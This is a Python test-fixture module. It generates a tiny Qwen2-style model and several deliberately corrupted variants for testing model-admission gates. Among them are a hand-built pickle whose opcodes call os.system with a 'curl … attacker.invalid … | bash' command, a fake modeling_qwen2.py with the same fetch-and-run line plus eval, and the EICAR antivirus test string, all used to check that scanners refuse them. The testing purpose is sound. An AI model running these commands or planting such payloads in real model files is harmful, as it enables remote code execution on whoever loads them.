"""A tiny Qwen2-shaped model for the tests, and each bad variant the admission gates must refuse.

Shared by the unit tests (tests/unit/test_model_*.py) and the lab tests of the model_sync role; importable
as ``modelgen`` (pyproject.toml puts tests/ on pytest's path). Also a command line, to build models on the
host and copy them into lab nodes:

    python tests/modelgen DIR [--variant NAME] [--publisher FILE --publisher-format FORM] [--version TEXT]
    python tests/modelgen --eicar-database DIR

Everything is deterministic: the same call writes the same bytes, so a publisher manifest made from one good
model matches another good model written elsewhere. ``version`` changes the weights' bytes (a new release of
the same model, for sync tests that switch ``current`` from one version to the next).

Layout of the good model (about 3 MB)::

    config.json  generation_config.json  tokenizer.json  tokenizer_config.json
    model-00001-of-00002.safetensors  model-00002-of-00002.safetensors  model.safetensors.index.json

The bad variants (``VARIANTS``; ``EXPECTED_REFUSAL[name]`` is the gate that must refuse it and the file it
must name) each start from the good model:

    flipped_byte       one byte of shard 2's tensor data flipped (structure intact; hashes differ)
    missing_shard      shard 2 deleted (the index names a shard that is not there)
    unindexed_shard    a third valid shard that the index does not name
    malicious_pickle   training_args.bin: a pickle whose opcodes call os.system (written as raw opcodes,
                       never loaded)
    eicar              notes/eicar.txt holding the EICAR antivirus test string
    unreadable_0600    model.safetensors.index.json with mode 0600 (the article's outage)
    header_past_end    shard 2 cut short: its header's data offsets run past the end of the file
    remote_code        modeling_qwen2.py calling os.system (the python gate; trust_remote_code)
"""

from __future__ import annotations

import hashlib
import json
import os
import random
import struct
from pathlib import Path
from typing import Any

SHARD_1 = "model-00001-of-00002.safetensors"
SHARD_2 = "model-00002-of-00002.safetensors"
INDEX = "model.safetensors.index.json"
EXTRA_SHARD = "model-00003-of-00003.safetensors"

HIDDEN = 256
INTERMEDIATE = 688
LAYERS = 2
HEADS = 4
KV_HEADS = 2
HEAD_DIM = HIDDEN // HEADS
VOCAB = 1024

SAMPLES = ("The quick brown fox jumps over the lazy dog.", "大语言模型的权重必须完整、可验证、可读取。")

VARIANTS = (
    "flipped_byte",
    "missing_shard",
    "unindexed_shard",
    "malicious_pickle",
    "eicar",
    "unreadable_0600",
    "header_past_end",
    "remote_code",
)

# variant -> (the gate that must refuse it, the file it must name)
EXPECTED_REFUSAL: dict[str, tuple[str, str]] = {
    "flipped_byte": ("publisher", SHARD_2),
    "missing_shard": ("safetensors", SHARD_2),
    "unindexed_shard": ("safetensors", EXTRA_SHARD),
    "malicious_pickle": ("pickle", "training_args.bin"),
    "eicar": ("clamav", "notes/eicar.txt"),
    "unreadable_0600": ("permissions", INDEX),
    "header_past_end": ("safetensors", SHARD_2),
    "remote_code": ("python", "modeling_qwen2.py"),
}

# The EICAR test string, assembled so that this source file does not itself carry it in one piece.
EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode("ascii")
EICAR_SIGNATURE_NAME = "Lab.EICAR-Test-Signature"


# Tokenizer -------------------------------------------------------------------------------------------


def _bytes_to_unicode() -> dict[int, str]:
    """GPT-2's byte-level alphabet (what the ByteLevel pre-tokenizer maps bytes to)."""
    printable = list(range(ord("!"), ord("~") + 1)) + list(range(ord("¡"), ord("¬") + 1))
    printable += list(range(ord("®"), ord("ÿ") + 1))
    chars = printable[:]
    n = 0
    for b in range(256):
        if b not in printable:
            printable.append(b)
            chars.append(256 + n)
            n += 1
    return {b: chr(c) for b, c in zip(printable, chars, strict=True)}


def tokenizer_json() -> str:
    """A byte-level BPE tokenizer (Qwen2's kind) with a few merges; round-trips any text exactly."""
    from tokenizers import Tokenizer, decoders, models, pre_tokenizers

    alphabet = _bytes_to_unicode()
    vocab: dict[str, int] = {alphabet[b]: i for i, b in enumerate(sorted(alphabet))}
    merges: list[tuple[str, str]] = []
    for left, right in (("h", "e"), ("t", "he"), ("Ġ", "the"), ("i", "n"), ("e", "r"), ("o", "n")):
        merged = left + right
        if left in vocab and right in vocab and merged not in vocab:
            merges.append((left, right))
            vocab[merged] = len(vocab)
    tokenizer = Tokenizer(models.BPE(vocab=vocab, merges=merges))
    tokenizer.pre_tokenizer = pre_tokenizers.ByteLevel(add_prefix_space=False, use_regex=True)
    tokenizer.decoder = decoders.ByteLevel()
    tokenizer.add_special_tokens(["<|endoftext|>", "<|im_start|>", "<|im_end|>"])
    return tokenizer.to_str(pretty=True)


def _tokenizer_config() -> dict[str, Any]:
    return {
        "model_max_length": 2048,
        "tokenizer_class": "Qwen2Tokenizer",
        "bos_token": None,
        "eos_token": "<|im_end|>",
        "pad_token": "<|endoftext|>",
        "unk_token": None,
        "clean_up_tokenization_spaces": False,
        "errors": "replace",
        "split_special_tokens": False,
    }


def _config() -> dict[str, Any]:
    return {
        "architectures": ["Qwen2ForCausalLM"],
        "model_type": "qwen2",
        "hidden_size": HIDDEN,
        "intermediate_size": INTERMEDIATE,
        "num_hidden_layers": LAYERS,
        "num_attention_heads": HEADS,
        "num_key_value_heads": KV_HEADS,
        "vocab_size": VOCAB,
        "max_position_embeddings": 2048,
        "rms_norm_eps": 1e-6,
        "rope_theta": 1000000.0,
        "hidden_act": "silu",
        "tie_word_embeddings": False,
        "torch_dtype": "bfloat16",
        "bos_token_id": 256,
        "eos_token_id": 258,
        "use_cache": True,
        "use_sliding_window": False,
    }


# Weights ---------------------------------------------------------------------------------------------


def _layer_tensors(layer: int) -> dict[str, tuple[int, ...]]:
    p = f"model.layers.{layer}."
    kv = KV_HEADS * HEAD_DIM
    return {
        p + "input_layernorm.weight": (HIDDEN,),
        p + "self_attn.q_proj.weight": (HIDDEN, HIDDEN),
        p + "self_attn.q_proj.bias": (HIDDEN,),
        p + "self_attn.k_proj.weight": (kv, HIDDEN),
        p + "self_attn.k_proj.bias": (kv,),
        p + "self_attn.v_proj.weight": (kv, HIDDEN),
        p + "self_attn.v_proj.bias": (kv,),
        p + "self_attn.o_proj.weight": (HIDDEN, HIDDEN),
        p + "post_attention_layernorm.weight": (HIDDEN,),
        p + "mlp.gate_proj.weight": (INTERMEDIATE, HIDDEN),
        p + "mlp.up_proj.weight": (INTERMEDIATE, HIDDEN),
        p + "mlp.down_proj.weight": (HIDDEN, INTERMEDIATE),
    }


def shard_layout() -> dict[str, dict[str, tuple[int, ...]]]:
    """shard file -> {tensor name: shape}: embeddings and layer 0 in shard 1, the rest in shard 2."""
    first = {"model.embed_tokens.weight": (VOCAB, HIDDEN), **_layer_tensors(0)}
    second: dict[str, tuple[int, ...]] = {}
    for layer in range(1, LAYERS):
        second.update(_layer_tensors(layer))
    second["model.norm.weight"] = (HIDDEN,)
    second["lm_head.weight"] = (VOCAB, HIDDEN)
    return {SHARD_1: first, SHARD_2: second}


def safetensors_bytes(tensors: dict[str, tuple[int, ...]], seed: str, dtype: str = "BF16") -> bytes:
    """A safetensors file, written from the format: u64 LE header length, JSON header, tensor data."""
    itemsize = {"BF16": 2, "F16": 2, "F32": 4}[dtype]
    header: dict[str, Any] = {"__metadata__": {"format": "pt"}}
    chunks: list[bytes] = []
    offset = 0
    rng = random.Random(seed)
    for name, shape in tensors.items():
        count = 1
        for dim in shape:
            count *= dim
        data = rng.randbytes(count * itemsize)
        header[name] = {"dtype": dtype, "shape": list(shape), "data_offsets": [offset, offset + len(data)]}
        chunks.append(data)
        offset += len(data)
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)  # the reference writer pads the header to 8 bytes
    return struct.pack("<Q", len(raw)) + raw + b"".join(chunks)


def _write(path: Path, data: bytes | str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    path.write_bytes(data)
    path.chmod(0o644)


def write_good_model(directory: str | os.PathLike[str], version: str = "1") -> Path:
    """Write the good model into ``directory`` (created if need be); returns it."""
    root = Path(directory)
    root.mkdir(parents=True, exist_ok=True)
    root.chmod(0o755)
    _write(root / "config.json", json.dumps(_config(), indent=2) + "\n")
    _write(root / "generation_config.json", json.dumps({"bos_token_id": 256, "eos_token_id": 258}) + "\n")
    _write(root / "tokenizer.json", tokenizer_json())
    _write(root / "tokenizer_config.json", json.dumps(_tokenizer_config(), indent=2) + "\n")
    weight_map: dict[str, str] = {}
    total = 0
    for shard, tensors in shard_layout().items():
        data = safetensors_bytes(tensors, seed=f"{version}:{shard}")
        _write(root / shard, data)
        total += sum(2 * _count(shape) for shape in tensors.values())
        weight_map.update(dict.fromkeys(tensors, shard))
    index = {"metadata": {"total_size": total}, "weight_map": dict(sorted(weight_map.items()))}
    _write(root / INDEX, json.dumps(index, indent=2) + "\n")
    return root


def _count(shape: tuple[int, ...]) -> int:
    count = 1
    for dim in shape:
        count *= dim
    return count


def malicious_pickle_bytes(command: str = "curl -s http://attacker.invalid/x | bash") -> bytes:
    """Protocol 2 opcodes for ``os.system(command)`` (what a poisoned checkpoint's __reduce__ produces).

    Built opcode by opcode, never by pickling a live object; nothing here ever unpickles it.
    """
    arg = command.encode()
    return (
        b"\x80\x02"  # PROTO 2
        + b"cos\nsystem\n"  # GLOBAL os.system
        + b"X"
        + struct.pack("<I", len(arg))
        + arg  # BINUNICODE command
        + b"\x85"  # TUPLE1
        + b"R"  # REDUCE: os.system(command) when loaded
        + b"."  # STOP
    )


REMOTE_CODE = '''"""Custom modeling code, as trust_remote_code would run it."""
import os


def load_hook(path):
    os.system("curl -s http://attacker.invalid/x | bash")
    return eval(open(path).read())
'''


def write_variant(directory: str | os.PathLike[str], variant: str, version: str = "1") -> Path:
    """Write the good model, then break it as ``variant`` says (see the module docstring)."""
    if variant not in VARIANTS:
        raise ValueError(f"unknown variant {variant!r}; one of {', '.join(VARIANTS)}")
    root = write_good_model(directory, version)
    if variant == "flipped_byte":
        path = root / SHARD_2
        data = bytearray(path.read_bytes())
        data[-100] ^= 0x01
        path.write_bytes(bytes(data))
    elif variant == "missing_shard":
        (root / SHARD_2).unlink()
    elif variant == "unindexed_shard":
        _write(root / EXTRA_SHARD, safetensors_bytes({"model.extra.weight": (HIDDEN, HIDDEN)}, seed="extra"))
    elif variant == "malicious_pickle":
        _write(root / "training_args.bin", malicious_pickle_bytes())
    elif variant == "eicar":
        _write(root / "notes" / "eicar.txt", EICAR + b"\n")
    elif variant == "unreadable_0600":
        (root / INDEX).chmod(0o600)
    elif variant == "header_past_end":
        path = root / SHARD_2
        with open(path, "r+b") as f:
            f.truncate(path.stat().st_size - 4096)
    elif variant == "remote_code":
        _write(root / "modeling_qwen2.py", REMOTE_CODE)
    return root


# Publisher lists and the ClamAV database -------------------------------------------------------------


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _git_sha1(path: Path) -> str:
    data = path.read_bytes()
    return hashlib.sha1(b"blob %d\0" % len(data) + data, usedforsecurity=False).hexdigest()


def _files(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file())


def publisher_listing(model_dir: str | os.PathLike[str], form: str = "model_manifest") -> str:
    """What a publisher lists for the files of ``model_dir`` (a good model), in one of the forms
    model_admission accepts: ``model_manifest``, ``sha256sum`` or ``hf_json`` (the hub's model info with
    ``siblings``: LFS files carry sha256, the small ones a git blob id)."""
    root = Path(model_dir)
    files = _files(root)
    rel = [(p.relative_to(root).as_posix(), p) for p in files]
    if form == "model_manifest":
        entries = [{"path": r, "size": p.stat().st_size, "sha256": _sha256(p)} for r, p in rel]
        manifest = {
            "format": "model-manifest/1",
            "algorithm": "sha256",
            "file_count": len(entries),
            "total_size": sum(e["size"] for e in entries),
            "files": entries,
        }
        return json.dumps(manifest, indent=2) + "\n"
    if form == "sha256sum":
        return "".join(f"{_sha256(p)}  {r}\n" for r, p in rel)
    if form == "hf_json":
        siblings: list[dict[str, Any]] = [{"rfilename": ".gitattributes", "blobId": "0" * 40, "size": 1519}]
        for r, p in rel:
            if r.endswith(".safetensors"):
                size = p.stat().st_size
                siblings.append(
                    {
                        "rfilename": r,
                        "blobId": "1" * 40,
                        "size": size,
                        "lfs": {"sha256": _sha256(p), "size": size, "pointerSize": 135},
                    }
                )
            else:
                siblings.append({"rfilename": r, "blobId": _git_sha1(p), "size": p.stat().st_size})
        info = {"id": "lab/tiny-qwen2", "sha": "0" * 40, "siblings": siblings}
        return json.dumps(info, indent=2) + "\n"
    raise ValueError(f"unknown publisher form {form!r}")


def write_publisher_manifest(
    dest: str | os.PathLike[str], form: str = "model_manifest", version: str = "1"
) -> Path:
    """The publisher's listing of the good model (written to a scratch directory beside ``dest``)."""
    import tempfile

    dest = Path(dest)
    with tempfile.TemporaryDirectory(dir=dest.parent) as scratch:
        good = write_good_model(Path(scratch) / "model", version)
        _write(dest, publisher_listing(good, form))
    return dest


def write_eicar_database(directory: str | os.PathLike[str]) -> Path:
    """A ClamAV database directory holding one body signature (.ndb) for the EICAR test string."""
    root = Path(directory)
    root.mkdir(parents=True, exist_ok=True)
    _write(root / "lab-eicar.ndb", f"{EICAR_SIGNATURE_NAME}:0:*:{EICAR.hex()}\n")
    return root
